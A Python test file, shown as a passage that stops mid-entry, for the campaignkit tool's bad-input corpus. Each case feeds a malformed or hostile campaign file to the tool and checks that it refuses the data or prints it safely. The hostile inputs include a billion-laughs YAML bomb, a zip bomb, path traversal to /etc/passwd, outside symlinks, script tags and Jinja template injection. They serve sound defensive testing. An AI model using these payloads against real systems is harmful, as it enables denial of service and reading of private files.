"""The bad-input corpus (issue 7): data as people really write it, each with its outcome.

Every case changes a copy of the mini campaign and must end in one of these outcomes:
- Refused: `campaignkit check` names the problem (file, line or row, field, how to fix it),
  and nothing is printed from that data;
- TallyRefused / TallyRead: the tally reader names the bad cell, or reads the right counts;
- Accepted: the data validates, and reads as meant;
- Printed: the PDF is written and shows what was typed, as text, in a font the kit ships.
Never a crash, a half-written file or a silently wrong PDF.
"""

import csv
import io
import os
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
import pytest
from pypdf import PdfReader

from campaignkit import InvalidCampaign, check_campaign, load_campaign, produce
from campaignkit.data.tallies import read_tallies
from campaignkit.printing.preflight import preflight_file
from campaignkit.text.typography import typeset_text
from tests.bounded import run_bounded
from tests.hostile import (
    bomb_workbook,
    far_cell_workbook,
    fifo,
    hidden_first_sheet_workbook,
    symlink_loop,
)
from tests.images import SVG, claimed_size_png, photo, truncated
from tests.pdfs import largest_image_side, pdf_fonts, pdf_text
from tests.test_cli import run_cli

SHIPPED_FONTS = ("Kit-Sans", "Kit-Display", "Kit-Serif", "Kit-Arabic", "Kit-CJK")


# --- outcomes -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    """`campaignkit check` reports this problem, and nothing is printed."""

    code: str
    file: str
    field: str | None = None
    line: int | None = None
    row: int | None = None
    shows: str = ""  # a piece of the English message

    def verify(self, root, out):
        data, problems = check_campaign(root)
        assert data is None, "the data validated"
        texts = [problem.text("en") for problem in problems]
        found = [p for p in problems if p.code == self.code and p.file.endswith(self.file)]
        assert found, f"no {self.code} in {self.file}: {texts}"
        problem = found[0]
        if self.field is not None:
            assert problem.field == self.field, texts
        assert (problem.line, problem.row) == (self.line, self.row), texts
        for lang in ("en", "fr"):
            assert problem.fix(lang) and problem.text(lang)  # every message formats
        assert self.shows in problem.text("en")
        assert all(len(text) < 700 for text in texts), "a message quotes a whole text"
        with pytest.raises(InvalidCampaign):
            produce("poster", root, out_dir=out)
        assert not out.exists() or not any(out.rglob("*.pdf"))


@dataclass(frozen=True)
class TallyRefused:
    """`campaignkit results` names the bad cell; the file is left out of the counts."""

    code: str
    file: str
    row: int | None
    column: str | None
    shows: str = ""
    hides: str | None = None  # a text no message may quote

    def verify(self, root, out):
        data = load_campaign(root)
        intake = read_tallies(data)
        texts = [problem.text("en") for problem in intake.problems]
        found = [p for p in intake.problems if p.code == self.code]
        assert found, f"no {self.code}: {texts}"
        problem = found[0]
        assert problem.file.endswith(self.file), texts
        assert (problem.row, problem.column) == (self.row, self.column), texts
        assert self.shows in problem.text("en")
        assert all(len(text) < 700 for text in texts), "a message quotes a whole cell"
        assert self.hides is None or not any(self.hides in text for text in texts), texts
        assert problem.fix("fr") and problem.text("fr")
        assert "mtl-grand" not in intake.tallies, "a file with a problem is not counted"


@dataclass(frozen=True)
class TallyRead:
    """The tally is read with these counts and no problem."""

    letters: dict
    cards: dict
    participants: int = 120

    def verify(self, root, out):
        intake = read_tallies(load_campaign(root))
        assert intake.problems == [], [p.text("en") for p in intake.problems]
        tally = intake.tallies["mtl-grand"]
        assert (tally.letters, tally.cards) == (self.letters, self.cards)
        assert tally.participants == self.participants


@dataclass(frozen=True)
class RefusedInBounds:
    """`campaignkit COMMAND` (check or results), run in a child held to a memory ceiling and
    a deadline, names the problem and exits 1: no hang, no traceback, under 300 MB."""

    command: str
    file: str
    shows: str

    def verify(self, root, out):
        extra = ("--out-dir", str(out)) if self.command == "results" else ()
        result = run_bounded(self.command, str(root), *extra)
        assert not result.hung, f"still running at the deadline: {result.output[-500:]}"
        assert result.returncode == 1, result.output[-2000:]
        assert "Traceback" not in result.output, result.output[-2000:]
        assert result.peak_mb is not None and result.peak_mb < 300, result.peak_mb
        line = next(line for line in result.output.splitlines() if self.file in line)
        assert self.shows in line and "Fix:" in line and len(line) < 700, line
        assert not out.exists() or not [p for p in out.rglob("*") if p.is_file()]


@dataclass(frozen=True)
class Accepted:
    """The data validates, and `holds` says it reads as meant."""

    holds: Callable

    def verify(self, root, out):
        data, problems = check_campaign(root)
        assert problems == [], [problem.text("en") for problem in problems]
        assert self.holds(data)


@dataclass(frozen=True)
class Printed:
    """Each material's PDF is written, passes preflight and shows `texts` as text, drawn
    with the kit's fonts (`fonts` among them)."""

    materials: tuple[str, ...]
    texts: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()
    fonts: tuple[str, ...] = ()
    check: Callable | None = None  # more to check on each PDF

    def verify(self, root, out):
        data = load_campaign(root)
        for material in self.materials:
            produced = produce(material, region="montreal", lang="fr", out_dir=out, data=data)
            report = preflight_file(produced.path, produced.pages)
            assert report.ok, report.summary()
            text = pdf_text(produced.path)
            flat = " ".join(text.split())
            for expected in self.texts:
                expected = " ".join(typeset_text(expected, "fr").split())  # as French prints it
                assert expected in flat, f"{expected!r} not in the {material}"
            for unexpected in self.absent:
                assert unexpected not in flat, f"{unexpected!r} in the {material}"
            used = pdf_fonts(produced.path)
            assert all(name.startswith(SHIPPED_FONTS) for name in used), used
            for font in self.fonts:
                assert any(name.startswith(font) for name in used), (font, used)
            if self.check:
                self.check(produced.path)
        assert not list(out.rglob("*.tmp")), "a half-written file was left"


# --- mutations ------------------------------------------------------------------------------


def edit(name, old, new):
    return lambda c: c.edit(name, old, new)


def both(*steps):
    def run(c):
        for step in steps:
            step(c)

    return run


def with_photo(file: str, make=None):
    """Ana's photo is `file`; `make(root)` puts something there first."""

    def run(c):
        if make:
            make(c.root)
        c.edit(
            "cases/ana.yaml",
            "photo: null",
            f"photo: {{file: '{file}', credit: {{fr: Essai, en: Test}}, "
            "alt: {fr: Portrait d'Ana, en: Portrait of Ana}}",
        )

    return run


def french_excel(name):
    """The file as French Excel saves CSV: semicolons, Windows-1252, CRLF."""

    def run(c):
        path = c.root / name
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
        path.write_bytes(buffer.getvalue().encode("cp1252"))

    return run


def bom_and_blank_rows(name):
    def run(c):
        path = c.root / name
        lines = path.read_text(encoding="utf-8").splitlines()
        blank = "," * (lines[0].count(","))
        text = "\n".join([lines[0], blank, *lines[1:], "", blank]) + "\n"
        path.write_text("\ufeff" + text, encoding="utf-8")

    return run


TALLY = [
    ["# Test fixture: invented sample numbers"],
    ["Événement / Event", "mtl-grand"],
    ["Participants", 120],
    ["Actions en ligne / Online actions", 15],
    ["Cas / Case", "Lettres / Letters", "Cartes / Cards"],
    ["ana", 210, 185],
    ["bo", 164, 1240],
    ["Total", 374, 1425],
]
COUNTS = {"letters": {"ana": 210, "bo": 164}, "cards": {"ana": 185, "bo": 1240}}


def tally_csv(rows, sep=",", encoding="utf-8", prefix=""):
    def run(c):
        text = "\r\n".join(sep.join(str(cell) for cell in row) for row in rows) + "\r\n"
        (c.root / "tallies" / "mtl-grand.csv").write_bytes((prefix + text).encode(encoding))

    return run


def tally_row(label, *cells):
    """The tally with the row labelled `label` replaced."""
    return [[label, *cells] if row[0] == label else row for row in TALLY]


def tally_xlsx(rows, merge=(), formulas=False):
    """The tally as a workbook written by a program (formulas never computed)."""

    def run(c):
        (c.root / "tallies" / "mtl-grand.csv").unlink()
        book = openpyxl.Workbook()
        sheet = book.active
        for row in rows:
            sheet.append(row)
        for cells in merge:
            sheet.merge_cells(cells)
        book.save(c.root / "tallies" / "mtl-grand.xlsx")

    return run


def symlink(link: str, target):
    """`link` (inside the campaign) points at `target` (a path, or a callable of the root)."""

    def run(root):
        path = root / link
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(root) if callable(target) else target, path)

    return run


def outside_folder_of_photos(root):
    outside = root.parent / "elsewhere"
    photo(outside / "ana.jpg")
    os.symlink(outside, root / "photos")


def svg(name):
    def run(root):
        (root / "photos").mkdir(exist_ok=True)
        (root / "photos" / name).write_text(SVG)

    return run


def text_file(name):
    def run(root):
        (root / "photos").mkdir(exist_ok=True)
        (root / "photos" / name).write_text("not a picture\n")

    return run


def tally_file(make):
    """The tally of mtl-grand as an XLSX that `make(path, rows)` writes."""

    def run(c):
        (c.root / "tallies" / "mtl-grand.csv").unlink()
        make(c.root / "tallies" / "mtl-grand.xlsx", TALLY)

    return run


_BOMB: dict[str, bytes] = {}


def zip_bomb(path, rows):
    """One 1 MB workbook holding a 1 GB cell, made once per test run."""
    if "bytes" not in _BOMB:
        _BOMB["bytes"] = bomb_workbook(path, rows).read_bytes()
    path.write_bytes(_BOMB["bytes"])


def tally_symlinked_outside(c):
    """tallies/mtl-grand.csv links to a file beside the campaign, with a cell worth hiding."""
    outside = c.root.parent / "elsewhere" / "private.csv"
    outside.parent.mkdir()
    rows = tally_row("ana", "private-cell-value", 185)
    outside.write_text("\n".join(",".join(str(cell) for cell in row) for row in rows))
    (c.root / "tallies" / "mtl-grand.csv").unlink()
    os.symlink(outside, c.root / "tallies" / "mtl-grand.csv")


def events_symlinked_outside(c):
    outside = c.root.parent / "elsewhere" / "events.csv"
    outside.parent.mkdir()
    (c.root / EVENTS).rename(outside)
    os.symlink(outside, c.root / EVENTS)


def check_40_megapixels(pdf):
    side = largest_image_side(pdf)
    assert 0 < side <= 2400, side
    assert pdf.stat().st_size < 3_000_000, pdf.stat().st_size


def has_no_image(pdf):
    assert all(len(page.images) == 0 for page in PdfReader(str(pdf)).pages)


STORY_50K = ("Ana écrit encore. " * 3000)[:49_999] + "."
BILLION_LAUGHS = (
    'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    )
)
ARABIC = "محمد الأحمد"
CJK = "王小明"


# --- the corpus -----------------------------------------------------------------------------

ANA, CAMPAIGN, EVENTS, REGIONS = "cases/ana.yaml", "campaign.yaml", "events.csv", "regions.csv"

CORPUS = {
    # name: (category, mutation, outcome)
    # YAML syntax
    "unclosed-bracket": (
        "yaml",
        edit(ANA, "name: Ana", "name: [Ana"),
        Refused("yaml_syntax", "ana.yaml", line=4),
    ),
    "tab-indentation": (
        "yaml",
        edit(CAMPAIGN, "  short_name: TEST", "\tshort_name: TEST"),
        Refused("yaml_syntax", "campaign.yaml", line=12),
    ),
    "colon-in-unquoted-text": (
        "yaml",
        edit(ANA, "name: Ana Wydrzyńska", "name: Ana: la militante"),
        Refused("yaml_syntax", "ana.yaml", line=3),
    ),
    "key-given-twice": (
        "yaml",
        edit(ANA, "featured: true", "featured: true\nfeatured: false"),
        Refused("yaml_duplicate_key", "ana.yaml", "featured", line=27, shows="line 26"),
    ),
    "billion-laughs": (
        "yaml",
        edit(ANA, "sample: true", "sample: true\n" + BILLION_LAUGHS),
        Refused("yaml_expansion", "ana.yaml", shows="100000 values", line=28),
    ),
    "list-instead-of-fields": (
        "yaml",
        lambda c: c.write(ANA, "- id: ana\n- name: Ana\n"),
        Refused("not_a_mapping", "ana.yaml", line=1),
    ),
    "not-utf8": (
        "yaml",
        lambda c: (c.root / ANA).write_bytes("name: Ana Wydrzyńska\n".encode("utf-16")),
        Refused("file_unreadable", "ana.yaml", shows="not UTF-8"),
    ),
    # wrong types
    "plain-string-for-translations": (
        "types",
        edit(
            ANA,
            'demand: {fr: "Annulez sa condamnation.", en: "Overturn her conviction."}',
            "demand: Annulez sa condamnation.",
        ),
        Refused("not_translated", "ana.yaml", "demand", line=10, shows="fr:"),
    ),
    "number-for-a-name": (
        "types",
        edit(ANA, "first_name: Ana", "first_name: 1234"),
        Refused("expected_text", "ana.yaml", "card.first_name", line=21),
    ),
    "yes-no-as-maybe": (
        "types",
        edit(ANA, "featured: true", "featured: maybe"),
        Refused("expected_yes_no", "ana.yaml", "featured", line=26, shows="'maybe'"),
    ),
    "text-instead-of-address-list": (
        "types",
        edit(
            ANA,
            'address: ["Ana", "a/s Organisme d\'essai", "Montréal"]',
            "address: Ana, a/s Organisme d'essai, Montréal",
        ),
        Refused("expected_list", "ana.yaml", "card.address", line=22),
    ),
    "url-without-https": (
        "types",
        edit(ANA, "action_url: https://example.org/agir/ana", "action_url: example.org/agir/ana"),
        Refused("bad_format", "ana.yaml", "action_url", line=25, shows="https://"),
    ),
    "colour-by-name": (
        "types",
        edit(CAMPAIGN, 'rgb: "#FFFF00"', "rgb: yellow"),
        Refused("bad_format", "campaign.yaml", "branding.primary.rgb", line=22, shows="#FFFF00"),
    ),
    "brand-colour-without-cmyk": (
        "types",
        edit(CAMPAIGN, ", cmyk: [0, 100, 75, 0]", ""),
        Refused(
            "brand_cmyk_missing", "campaign.yaml", "branding.accent", line=24, shows="cmyk: [0"
        ),
    ),
    "brand-colour-cmyk-out-of-range": (
        "types",
        edit(CAMPAIGN, "cmyk: [0, 0, 100, 0]", "cmyk: [0, 0, 120, 0]"),
        Refused(
            "brand_cmyk_range", "campaign.yaml", "branding.primary.cmyk", line=22, shows="0 to 100"
        ),
    ),
    "region-code-one-digit": (
        "types",
        edit(REGIONS, "montreal,06", "montreal,6"),
        Refused("bad_format", "regions.csv", "code", row=2, shows="two-digit"),
    ),
    "attendance-in-words": (
        "types",
        edit(EVENTS, "Montréal,200", "Montréal,beaucoup"),
        Refused("bad_number", "events.csv", "expected_attendance", row=2),
    ),
    "attendance-absurd": (
        "types",
        edit(EVENTS, "Montréal,200", "Montréal,20000000000"),
        Refused("number_too_large", "events.csv", "expected_attendance", row=2),
    ),
    # missing fields
    "case-without-demand": (
        "missing",
        edit(ANA, 'demand: {fr: "Annulez sa condamnation.", en: "Overturn her conviction."}\n', ""),
        Refused("missing", "ana.yaml", "demand", line=2),
    ),
    "events-without-venue-column": (
        "missing",
        edit(EVENTS, "end,venue,", "end,lieu,"),
        Refused("missing_column", "events.csv", "venue", line=1),
    ),
    "event-with-empty-venue": (
        "missing",
        edit(EVENTS, "18:00,Maison d'essai,", "18:00,,"),
        Refused("missing", "events.csv", "venue", row=2),
    ),
    "address-neither-given-nor-pending": (
        "missing",
        edit("cases/bo.yaml", "  address_pending: true\n", ""),
        Refused("address_missing", "bo.yaml", "target", line=9),
    ),
    "campaign-file-deleted": (
        "missing",
        lambda c: (c.root / CAMPAIGN).unlink(),
        Refused("file_unreadable", "campaign.yaml"),
    ),
    # missing translations
    "yaml-text-without-english": (
        "translations",
        edit(ANA, ', en: "Overturn her conviction."', ""),
        Refused("missing_translation", "ana.yaml", "demand.en", line=10),
    ),
    "csv-title-without-english": (
        "translations",
        edit(EVENTS, "Evening at the café,2023-12-05", ",2023-12-05"),
        Refused("missing_translation", "events.csv", "title_en", row=3),
    ),
    "empty-french-text": (
        "translations",
        edit(
            ANA,
            'blurb: {fr: "Une militante d\'essai poursuivie pour avoir aidé une amie."',
            'blurb: {fr: "  "',
        ),
        Refused("empty_text", "ana.yaml", "blurb.fr", line=6),
    ),
    "unsupported-language": (
        "translations",
        edit(CAMPAIGN, "languages: [fr, en]", "languages: [fr, en, de]"),
        Refused("unknown_language", "campaign.yaml", "languages", line=5),
    ),
    # unknown and duplicate ids
    "unknown-region": (
        "ids",
        edit(EVENTS, "tr-biblio,mauricie", "tr-biblio,mauricy"),
        Refused("unknown_region", "events.csv", "region", row=4, shows="mauricy"),
    ),
    "unknown-featured-case": (
        "ids",
        edit(CAMPAIGN, "featured_cases: [ana, bo]", "featured_cases: [ana, zed]"),
        Refused("unknown_case", "campaign.yaml", "featured_cases", shows="zed"),
    ),
    "duplicate-event-id": (
        "ids",
        edit(EVENTS, "mtl-cafe,montreal", "mtl-grand,montreal"),
        Refused("duplicate_id", "events.csv", "id", row=3, shows="row 2"),
    ),
    "case-id-not-file-name": (
        "ids",
        edit("cases/bo.yaml", "id: bo", "id: bob"),
        Refused("id_mismatch", "bo.yaml", "id", line=2),
    ),
    "id-with-accents-and-spaces": (
        "ids",
        edit(EVENTS, "mtl-cafe,", "Café Montréal,"),
        Refused("bad_id", "events.csv", "id", row=3),
    ),
    "misspelt-field": (
        "ids",
        edit(ANA, "story:", "stroy: oops\nstory:"),
        Refused("unknown_field", "ana.yaml", "stroy", line=7),
    ),
    # malformed dates and times, events outside the campaign
    "thirty-first-of-november": (
        "dates",
        edit(CAMPAIGN, "end: 2023-12-31", "end: 2023-11-31"),
        Refused("bad_date", "campaign.yaml", "end", line=9, shows="2023-11-31"),
    ),
    "date-day-first": (
        "dates",
        edit(EVENTS, "2023-12-09,11:00", "09/12/2023,11:00"),
        Refused("bad_date", "events.csv", "date", row=2),
    ),
    "february-29-not-leap": (
        "dates",
        edit(EVENTS, "2023-12-05,18:30", "2023-02-29,18:30"),
        Refused("bad_date", "events.csv", "date", row=3),
    ),
    "hour-25": (
        "dates",
        edit(EVENTS, "11:00,18:00", "25:00,18:00"),
        Refused("bad_time", "events.csv", "start", row=2),
    ),
    "twelve-hour-clock": (
        "dates",
        edit(EVENTS, "11:00,18:00", "11:00,6 PM"),
        Refused("bad_time", "events.csv", "end", row=2, shows="6 PM"),
    ),
    "event-ends-before-it-starts": (
        "dates",
        edit(EVENTS, "18:30,21:00", "18:30,17:00"),
        Refused("end_before_start", "events.csv", "end", row=3),
    ),
    "campaign-ends-before-it-starts": (
        "dates",
        edit(CAMPAIGN, "end: 2023-12-31", "end: 2023-10-01"),
        Refused("end_before_start", "campaign.yaml", "end", line=9),
    ),
    "event-after-the-campaign": (
        "dates",
        edit(EVENTS, "2023-12-05,18:30", "2024-03-05,18:30"),
        Refused("outside_campaign", "events.csv", "date", row=3, shows="2024-03-05"),
    ),
    # spreadsheets as people make them
    "events-from-french-excel": (
        "spreadsheets",
        french_excel(EVENTS),
        Accepted(
            lambda data: (
                data.events[1].title["fr"] == "Soirée au café"
                and data.events[1].address == "12, avenue d'Essai"
            )
        ),
    ),
    "regions-with-bom-and-blank-rows": (
        "spreadsheets",
        bom_and_blank_rows(REGIONS),
        Accepted(lambda data: list(data.regions) == ["montreal", "mauricie", "cote-nord"]),
    ),
    "unquoted-comma-in-address": (
        "spreadsheets",
        edit(EVENTS, '"12, avenue d\'Essai"', "12, avenue d'Essai"),
        Refused("extra_cells", "events.csv", row=3, shows="double quotes"),
    ),
    "tally-semicolons-windows-1252": (
        "spreadsheets",
        tally_csv(TALLY, sep=";", encoding="cp1252"),
        TallyRead(**COUNTS),
    ),
    "tally-with-bom-and-blank-rows": (
        "spreadsheets",
        tally_csv(TALLY[:3] + [[""], [",,"]] + TALLY[3:] + [[]], prefix="\ufeff"),
        TallyRead(**COUNTS),
    ),
    "tally-numbers-as-text": (
        "spreadsheets",
        tally_csv(tally_row("bo", "164", '"1 240"'), sep=";"),
        TallyRead(**COUNTS),
    ),
    "tally-merged-title-row": (
        "spreadsheets",
        tally_xlsx([["Décompte du grand marathon"], *TALLY], merge=["A1:C1"]),
        TallyRead(**COUNTS),
    ),
    "tally-merged-case-cells": (
        "spreadsheets",
        tally_xlsx(TALLY[:6] + [[None, 10, 5]] + TALLY[6:7], merge=["A6:A7"]),
        TallyRefused("no_label", "mtl-grand.xlsx", row=7, column="A"),
    ),
    "tally-formula-typed-in-csv": (
        "spreadsheets",
        tally_csv(tally_row("ana", "=100+110", 185)),
        TallyRefused("formula_count", "mtl-grand.csv", row=6, column="B", shows="=100+110"),
    ),
    "tally-formula-never-computed": (
        "spreadsheets",
        tally_xlsx(tally_row("ana", "=100+110", 185)),
        TallyRefused("formula_not_computed", "mtl-grand.xlsx", row=6, column="B"),
    ),
    "tally-negative-count": (
        "spreadsheets",
        tally_csv(tally_row("bo", -3, 1240)),
        TallyRefused("negative_count", "mtl-grand.csv", row=7, column="B"),
    ),
    "tally-count-in-words": (
        "spreadsheets",
        tally_csv(tally_row("ana", 210, "douze")),
        TallyRefused("not_a_count", "mtl-grand.csv", row=6, column="C", shows="douze"),
    ),
    "tally-count-with-decimals": (
        "spreadsheets",
        tally_csv(tally_row("ana", "12.5", 185)),
        TallyRefused("not_a_count", "mtl-grand.csv", row=6, column="B"),
    ),
    "tally-absurd-count": (
        "spreadsheets",
        tally_csv(tally_row("Participants", 5145550199)),
        TallyRefused("count_too_large", "mtl-grand.csv", row=3, column="B", shows="100000"),
    ),
    # long and strange text
    "story-of-50000-characters": (
        "text",
        edit(
            ANA,
            "Ana est un personnage inventé pour les tests. Son histoire tient en deux phrases.",
            STORY_50K,
        ),
        Refused("text_too_long", "ana.yaml", "story.fr", line=8, shows="50000 characters"),
    ),
    "name-of-120-characters": (
        "text",
        edit(ANA, "name: Ana Wydrzyńska", "name: " + "Ana Wydrzyńska-" * 8),
        Refused("too_long", "ana.yaml", "name", line=3, shows="120 characters"),
    ),
    "emoji-in-card-message": (
        "text",
        edit(ANA, "Courage, Ana !", "Courage, Ana ! ✊🏽"),
        Refused("no_glyph", "ana.yaml", "card.message.fr", line=23, shows="U+270A raised fist"),
    ),
    "emoji-in-event-title": (
        "text",
        edit(EVENTS, "Soirée au café", "Soirée au café 🎉"),
        Refused("no_glyph", "events.csv", "title_fr", row=3, shows="U+1F389"),
    ),
    "korean-name-no-shipped-font": (
        "text",
        edit(ANA, "name: Ana Wydrzyńska", "name: 김민수"),
        Refused("no_glyph", "ana.yaml", "name", line=3, shows="U+AE40"),
    ),
    "arabic-name": (
        "text",
        both(
            edit(ANA, "name: Ana Wydrzyńska", f"name: {ARABIC}"),
            edit(ANA, "first_name: Ana", "first_name: محمد"),
        ),
        Printed(("casebook", "letters", "cards"), texts=(ARABIC,), fonts=("Kit-Arabic",)),
    ),
    "cjk-name": (
        "text",
        both(
            edit(ANA, "name: Ana Wydrzyńska", f"name: {CJK} (山田花子)"),
            edit(ANA, "first_name: Ana", "first_name: 小明"),
        ),
        Printed(("casebook", "letters", "cards", "poster"), texts=(CJK,), fonts=("Kit-CJK",)),
    ),
    "right-to-left-with-direction-marks": (
        "text",
        edit(ANA, "Une militante d'essai", "Une militante \u200fسلام\u200e d'essai"),
        Printed(("poster",), texts=("سلام",), fonts=("Kit-Arabic",)),
    ),
    "html-and-script-in-texts": (
        "text",
        edit(ANA, "Une militante d'essai", "<script>alert('x')</script> <b>Une</b> militante"),
        Printed(("poster", "casebook"), texts=("<script>alert('x')</script> <b>Une</b>",)),
    ),
    "image-tag-in-story": (
        "text",
        edit(ANA, "Son histoire tient", "<img src='file:///etc/passwd'> Son histoire tient"),
        Printed(("casebook",), texts=("<img src='file:///etc/passwd'>",), check=has_no_image),
    ),
    "jinja-syntax-in-a-case": (
        "text",
        edit(ANA, "Annulez sa condamnation.", "{{ 7*7 }} {% if true %}Annulez{% endif %}"),
        Printed(
            ("casebook",),
            texts=("{{ 7*7 }} {% if true %}Annulez{% endif %}",),
            absent=("49 Annulez",),
        ),
    ),
    "jinja-syntax-in-an-event-title": (
        "text",
        edit(EVENTS, "Soirée au café", "Soirée {{ region_id }} {# note #}"),
        Printed(
            ("poster",), texts=("Soirée {{ region_id }} {# note #}",), absent=("Soirée montreal",)
        ),
    ),
    # images
    "photo-missing": (
        "images",
        with_photo("photos/ana.jpg"),
        Refused("file_missing", "ana.yaml", "photo.file", line=5),
    ),
    "photo-not-an-image": (
        "images",
        with_photo("photos/ana.jpg", text_file("ana.jpg")),
        Refused("photo_not_image", "ana.yaml", "photo.file", line=5),
    ),
    "photo-truncated": (
        "images",
        with_photo("photos/ana.png", lambda root: truncated(root / "photos" / "ana.png")),
        Refused("photo_not_image", "ana.yaml", "photo.file", line=5),
    ),
    "photo-gif": (
        "images",
        with_photo("photos/ana.gif", lambda root: photo(root / "photos" / "ana.gif", kind="GIF")),
        Refused("photo_format", "ana.yaml", "photo.file", line=5, shows="GIF"),
    ),
    "photo-of-85-megapixels": (
        "images",
        with_photo(
            "photos/ana.png", lambda root: claimed_size_png(root / "photos" / "ana.png", 9000, 9500)
        ),
        Refused("photo_too_large", "ana.yaml", "photo.file", line=5, shows="86 megapixels"),
    ),
    "photo-of-40-megapixels": (
        "images",
        with_photo(
            "photos/ana.jpg", lambda root: photo(root / "photos" / "ana.jpg", size=(7746, 5164))
        ),
        Printed(("casebook", "poster"), check=check_40_megapixels),
    ),
    "photo-svg-with-external-references": (
        "images",
        with_photo("photos/ana.svg", svg("ana.svg")),
        Refused("photo_svg", "ana.yaml", "photo.file", line=5, shows="web addresses"),
    ),
    "photo-svg-named-png": (
        "images",
        with_photo("photos/ana.png", svg("ana.png")),
        Refused("photo_svg", "ana.yaml", "photo.file", line=5),
    ),
    "photo-remote-url": (
        "images",
        with_photo("https://example.org/ana.jpg"),
        Refused("photo_remote", "ana.yaml", "photo.file", line=5, shows="downloads nothing"),
    ),
    "photo-dot-dot-path": (
        "images",
        with_photo("../../../../etc/passwd"),
        Refused("outside_folder", "ana.yaml", "photo.file", line=5),
    ),
    "photo-absolute-path": (
        "images",
        with_photo("/etc/hostname"),
        Refused("outside_folder", "ana.yaml", "photo.file", line=5),
    ),
    "photo-file-url": (
        "images",
        with_photo("file:///etc/hostname"),
        Refused("outside_folder", "ana.yaml", "photo.file", line=5),
    ),
    "photo-symlink-to-outside-file": (
        "images",
        with_photo("photos/ana.jpg", symlink("photos/ana.jpg", "/etc/hostname")),
        Refused("outside_folder", "ana.yaml", "photo.file", line=5),
    ),
    "photo-folder-symlinked-outside": (
        "images",
        with_photo("photos/ana.jpg", outside_folder_of_photos),
        Refused("outside_folder", "ana.yaml", "photo.file", line=5),
    ),
    "photo-symlink-inside-the-campaign": (
        "images",
        with_photo(
            "photos/ana.jpg",
            lambda root: (
                photo(root / "originals" / "ana.jpg"),
                symlink("photos/ana.jpg", root / "originals" / "ana.jpg")(root),
            ),
        ),
        Printed(("casebook",), texts=("Essai",)),
    ),
    # names that become paths (issue 12)
    "campaign-id-absolute-path": (
        "paths",
        edit(CAMPAIGN, "id: mini", 'id: "/var/elsewhere"'),
        Refused("bad_id", "campaign.yaml", "id", line=2, shows="/var/elsewhere"),
    ),
    "campaign-id-dot-dot": (
        "paths",
        edit(CAMPAIGN, "id: mini", 'id: "../../x"'),
        Refused("bad_id", "campaign.yaml", "id", line=2, shows="../../x"),
    ),
    "event-id-of-305-characters": (
        "paths",
        edit(EVENTS, "mtl-cafe,montreal", "mtl-" + "cafe-" * 60 + "x,montreal"),
        Refused("bad_id", "events.csv", "id", row=3, shows="at most 60"),
    ),
    "region-id-of-106-characters": (
        "paths",
        edit(REGIONS, "cote-nord,09", "cote-" + "nord-" * 20 + "x,09"),
        Refused("bad_id", "regions.csv", "id", row=4),
    ),
    "photo-name-with-a-tab": (
        "paths",
        with_photo("photos/ana\tportrait.jpg"),
        Refused("bad_file_name", "ana.yaml", "photo.file", line=5, shows="ana\\tportrait"),
    ),
    "logo-name-with-a-pipe": (
        "paths",
        edit(
            CAMPAIGN,
            '  accent: {rgb: "#E4003A", cmyk: [0, 100, 75, 0]}',
            '  accent: {rgb: "#E4003A", cmyk: [0, 100, 75, 0]}\n  logo: "logo|1.png"',
        ),
        Refused("bad_file_name", "campaign.yaml", "branding.logo", line=25),
    ),
    # numbers beyond any campaign (issue 12)
    "impact-figure-5e29": (
        "numbers",
        edit(CAMPAIGN, "value: 5828000", "value: 530000000000000000000000000000"),
        Refused("number_too_large", "campaign.yaml", "impact.0.value", line=19),
    ),
    "goal-1e26": (
        "numbers",
        edit(CAMPAIGN, "actions: 500", "actions: 100000000000000000000000000"),
        Refused("number_too_large", "campaign.yaml", "goals.actions", line=26),
    ),
    "region-goal-absurd": (
        "numbers",
        edit(REGIONS, "514 555-0101,300,250", "514 555-0101,300000000000000000000,250"),
        Refused("number_too_large", "regions.csv", "goal_actions", row=2),
    ),
    "edition-absurd": (
        "numbers",
        edit(CAMPAIGN, "edition: 1", "edition: 100000000000000000000"),
        Refused("number_too_large", "campaign.yaml", "edition", line=3),
    ),
    # YAML keys that are not text (issue 12)
    "number-as-a-key": (
        "keys",
        edit(ANA, "featured: true", "featured: true\n7: x"),
        Refused("unknown_field", "ana.yaml", "7", line=27),
    ),
    "true-as-a-key": (
        "keys",
        edit(ANA, "featured: true", "featured: true\ntrue: y"),
        Refused("unknown_field", "ana.yaml", "true", line=27),
    ),
    "year-as-a-nested-key": (
        "keys",
        edit(ANA, "  first_name: Ana", "  first_name: Ana\n  2023: x"),
        Refused("unknown_field", "ana.yaml", "card.2023", line=22),
    ),
    # only regular files, inside the campaign (issue 12)
    "events-csv-is-a-fifo": (
        "files",
        lambda c: fifo(c.root / EVENTS),
        RefusedInBounds("check", "events.csv", shows="named pipe (FIFO)"),
    ),
    "case-file-is-a-fifo": (
        "files",
        lambda c: fifo(c.root / "cases" / "x.yaml"),
        RefusedInBounds("check", "x.yaml", shows="named pipe (FIFO)"),
    ),
    "events-csv-symlinked-outside": (
        "files",
        events_symlinked_outside,
        Refused("outside_folder", "events.csv"),
    ),
    "campaign-yaml-symlink-loop": (
        "files",
        lambda c: symlink_loop(c.root / CAMPAIGN),
        Refused("symlink_loop", "campaign.yaml", shows="leads back to itself"),
    ),
    "photo-symlink-loop": (
        "files",
        with_photo("photos/ana.jpg", lambda root: symlink_loop(root / "photos" / "ana.jpg")),
        Refused("symlink_loop", "ana.yaml", "photo.file", line=5),
    ),
    "photo-is-a-fifo": (
        "files",
        with_photo("photos/ana.jpg", lambda root: fifo(root / "photos" / "ana.jpg")),
        Refused("not_regular_file", "ana.yaml", "photo.file", line=5, shows="named pipe"),
    ),
    "tally-symlinked-outside": (
        "files",
        tally_symlinked_outside,
        TallyRefused("outside_folder", "mtl-grand.csv", None, None, hides="private-cell-value"),
    ),
    "case-file-of-2-megabytes": (
        "files",
        edit(ANA, "sample: true", "sample: true\n" + "".join(f"k{n}: v\n" for n in range(250_000))),
        Refused("file_too_large", "ana.yaml", shows="at most 1 MB"),
    ),
    "tally-is-a-fifo": (
        "files",
